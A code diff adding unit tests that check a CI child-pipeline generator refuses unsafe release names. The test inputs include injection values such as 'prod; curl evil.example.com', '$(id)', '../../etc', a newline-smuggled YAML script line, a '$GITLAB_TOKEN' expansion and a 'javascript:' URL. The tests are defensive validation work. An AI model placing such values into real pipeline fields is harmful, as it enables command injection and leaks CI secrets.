@@ -94,3 +94,22 @@ it('has one job that says so where nothing is to be released', () => {
   expect(Object.keys(jobsOf([]).jobs)).toEqual(['nothing to release']);
   expect(Object.keys(jobsOf([{ ...release, steps: [] }]).jobs)).toEqual(['nothing to release']);
 });
+
+describe('names that would mean something else in a pipeline', () => {
+  it.each([
+    ['a variable of the project', { stack: 'prod$GITLAB_TOKEN' }],
+    ['another command', { stack: 'prod; curl evil.example.com' }],
+    ['a command of its own', { service: '$(id)' }],
+    ['another folder', { stack: '../../etc' }],
+    ['a line of its own', { service: 'reviews\nscript: [id]' }],
+    ['an option', { service: '--reason' }],
+    ['a variable in the address', { url: 'http://shop.example.com/$KUBECONFIG' }],
+    ['an address that runs a script', { url: 'javascript:alert(1)' }],
+  ])('are refused: %s', (_what, name) => {
+    expect(() => childPipeline([{ ...release, ...name }])).toThrow(/Pipeline: 1 problem/);
+  });
+
+  it('are none that the engine takes for a stack', () => {
+    expect(() => childPipeline([{ ...release, stack: 'organization/bookinfo/prod-eu.1' }])).not.toThrow();
+  });
+});
